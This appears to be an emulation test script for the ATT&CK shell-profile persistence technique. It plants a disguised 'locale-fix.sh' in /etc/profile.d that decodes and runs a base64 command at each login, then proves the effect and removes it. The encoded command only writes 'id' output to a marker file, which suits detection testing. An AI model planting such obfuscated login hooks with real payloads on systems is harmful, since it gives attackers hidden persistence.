#!/bin/sh
# T1546.004 (loud): A file of profile.d decodes and runs
M=/var/tmp/luytre-foothold N=09-profile-d
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
plant() {
  w /etc/profile.d/locale-fix.sh <<'E'
# shellcheck disable
echo aWQgPiAvdmFyL3RtcC9sdXl0cmUtZm9vdGhvbGQvMDktcHJvZmlsZS1kCg== | base64 -d | sh >/dev/null 2>&1
E
}
prove() {
  rm -f "$M/$N"
  bash -lc true
  seen
}
remove() {
  rm -f /etc/profile.d/locale-fix.sh
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
